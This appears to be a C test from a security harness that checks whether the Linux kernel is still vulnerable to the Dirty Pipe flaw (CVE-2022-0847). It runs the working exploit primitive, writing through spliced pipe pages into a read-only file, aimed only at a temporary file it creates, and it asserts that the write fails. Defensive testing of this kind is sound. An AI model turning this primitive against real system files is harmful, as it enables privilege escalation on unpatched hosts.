// Writes to a file that it may only read, through a page of it that splice put into a pipe.
// @technique T1068
// @weakness CWE-665
// @cve CVE-2022-0847
// @stopped-by kernel
// @options {"policy":"compat","isolation":"none"}
// @control none: fixed in Linux 5.16.11; splice is a call that programs need, so the kernel's fix is what holds
// @attempts 1
#include "../attack.h"

int main(void) {
  // A file of its own to look at; never one that is not.
  char name[] = "/tmp/barchan-pipe-XXXXXX", byte = 0;
  int file = mkstemp(name), pipes[2];
  CONTROL("a file", write(file, "original", 8));
  close(file);
  file = open(name, O_RDONLY);
  CONTROL("pipe", pipe(pipes));
  int size = fcntl(pipes[1], F_GETPIPE_SZ);
  static char filler[4096];
  for (int n = 0; n < size; n += sizeof filler) write(pipes[1], filler, sizeof filler);
  for (int n = 0; n < size; n += sizeof filler) read(pipes[0], filler, sizeof filler);
  loff_t offset = 0;
  CONTROL("splice", splice(file, &offset, pipes[1], NULL, 1, 0));
  write(pipes[1], "XXXX", 4);
  pread(file, &byte, 1, 1);
  MUST_NOT("write", byte == 'X', "unchanged");
  unlink(name);
  return 0;
}
